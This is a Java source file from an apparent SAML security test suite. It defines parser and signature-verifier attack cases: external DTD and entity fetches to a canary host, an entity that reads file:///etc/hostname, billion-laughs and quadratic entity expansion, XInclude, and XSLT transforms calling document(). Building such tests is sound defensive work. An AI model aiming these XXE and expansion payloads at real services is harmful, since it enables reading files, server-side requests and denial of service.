package io.vestibule.protocol.saml.attack;

import static io.vestibule.protocol.saml.attack.AttackCase.attack;

import io.vestibule.protocol.saml.attack.AttackCase.Expect;
import io.vestibule.protocol.saml.toy.Draft;
import io.vestibule.protocol.saml.toy.SamlNames;
import io.vestibule.protocol.saml.toy.Seal;
import java.util.List;
import java.util.function.Function;

/** Case 7: what makes a parser or a verifier fetch, expand or run something. */
final class Parsers {
    private static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
    private static final String XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116";
    private static final String XPATH_FILTER = "http://www.w3.org/2002/06/xmldsig-filter2";

    private Parsers() {}

    static List<AttackCase> cases() {
        return List.of(
                prolog("7-doctype", "a document type that says nothing", target -> "<!DOCTYPE samlp:Response>"),
                prolog("7-dtd-external", "an external DTD", target -> {
                    return "<!DOCTYPE samlp:Response SYSTEM \"" + target.canary() + "/dtd\">";
                }),
                prolog("7-dtd-public", "a public DTD", target -> {
                    return "<!DOCTYPE samlp:Response PUBLIC \"-//X//X\" \"" + target.canary() + "/public\">";
                }),
                prolog("7-parameter-entity", "an external parameter entity", target -> {
                    return "<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM \"" + target.canary() + "/entity\"> %x;]>";
                }),
                prolog("7-default-attribute", "a DTD that adds an ID to the assertion", target -> {
                    return "<!DOCTYPE samlp:Response [<!ATTLIST saml:Issuer ID ID #FIXED \"_x\">]>";
                }),
                entity("7-entity-internal", "an entity in the NameID", target -> {
                    return "<!ENTITY x \"" + Target.EVIL + "\">";
                }),
                entity("7-entity-external", "an external entity in the NameID", target -> {
                    return "<!ENTITY x SYSTEM \"" + target.canary() + "/entity\">";
                }),
                entity("7-entity-file", "a file as entity in the NameID", target -> {
                    return "<!ENTITY x SYSTEM \"file:///etc/hostname\">";
                }),
                entity("7-entity-laughs", "a billion laughs in the NameID", target -> laughs()),
                entity("7-entity-quadratic", "a long entity, often", target -> {
                    return "<!ENTITY y \"" + "y".repeat(50_000) + "\"><!ENTITY x \"" + "&y;".repeat(1_000) + "\">";
                }),
                prolog("7-stylesheet", "an external stylesheet", target -> {
                    return "<?xml-stylesheet type=\"text/xsl\" href=\"" + target.canary() + "/style\"?>";
                }),
                attack("7-xinclude", "an XInclude in the NameID", target -> {
                    Draft draft = target.draft();
                    draft.rawNameId = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                            + target.canary() + "/include\"></xi:include>";
                    return Message.post(draft.signed(target.key()), target);
                }),
                attack("7-schema-location", "a schema is said to be at an address", target -> {
                            Draft draft = target.draft();
                            String response = draft.response(draft.assertion())
                                    .replaceFirst(
                                            " Destination=",
                                            " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                                                    + " xsi:schemaLocation=\"" + SamlNames.PROTOCOL + " "
                                                    + target.canary() + "/schema\" Destination=");
                            return Message.post(Seal.sign(response, target.key()), target);
                        })
                        .expect(Expect.HARMLESS),
                transform("7-transform-xslt", "an XSLT transform", target -> xslt(target)),
                transform("7-transform-xslt-alone", "an XSLT transform instead of the others", target -> xslt(target)),
                transform("7-transform-xpath", "an XPath transform that selects nothing", target -> {
                    return "<ds:Transform Algorithm=\"" + XPATH + "\"><ds:XPath>false()</ds:XPath></ds:Transform>";
                }),
                transform("7-transform-xpath-all", "an XPath transform that selects everything", target -> {
                    return "<ds:Transform Algorithm=\"" + XPATH + "\"><ds:XPath>true()</ds:XPath></ds:Transform>";
                }),
                transform("7-transform-filter", "an XPath filter 2.0", target -> {
                    return "<ds:Transform Algorithm=\"" + XPATH_FILTER + "\"><f:XPath xmlns:f=\"" + XPATH_FILTER
                            + "\" Filter=\"intersect\">/*</f:XPath></ds:Transform>";
                }),
                transform("7-transform-base64", "a Base64 transform", target -> {
                    return Seal.transform(SamlNames.DSIG + "base64");
                }),
                transform(
                        "7-transform-unknown", "a transform nobody knows", target -> Seal.transform("urn:x:nothing")));
    }

    private static AttackCase prolog(String id, String what, Function<Target, String> prolog) {
        return attack(id, what, target -> {
            String signed = target.draft().signed(target.key());
            return Message.post(prolog.apply(target) + signed, target);
        });
    }

    private static AttackCase entity(String id, String what, Function<Target, String> entities) {
        return attack(id, what, target -> {
            Draft draft = target.draft();
            String name = draft.nameId;
            String signed = draft.signed(target.key()).replace(">" + name + "<", ">&x;<");
            return Message.post("<!DOCTYPE samlp:Response [" + entities.apply(target) + "]>" + signed, target);
        });
    }

    /** Before the usual transforms; signed by the genuine key, so that refusing takes looking at them. */
    private static AttackCase transform(String id, String what, Function<Target, String> transforms) {
        return attack(id, what, target -> {
            Draft draft = target.draft();
            boolean alone = id.endsWith("alone");
            Seal.Shape shape = target.shape();
            String all = transforms.apply(target) + (alone ? "" : shape.transforms());
            return Message.post(Seal.sign(draft.response(draft.assertion()), shape.transforms(all)), target);
        });
    }

    private static String xslt(Target target) {
        return "<ds:Transform Algorithm=\"" + XSLT
                + "\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">"
                + "<xsl:template match=\"/\"><xsl:copy-of select=\"document('" + target.canary()
                + "/xslt')\"></xsl:copy-of></xsl:template></xsl:stylesheet></ds:Transform>";
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 10; i++) {
            entities.append("<!ENTITY l").append(i).append(" \"");
            entities.append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return entities + "<!ENTITY x \"&l9;\">";
    }
}
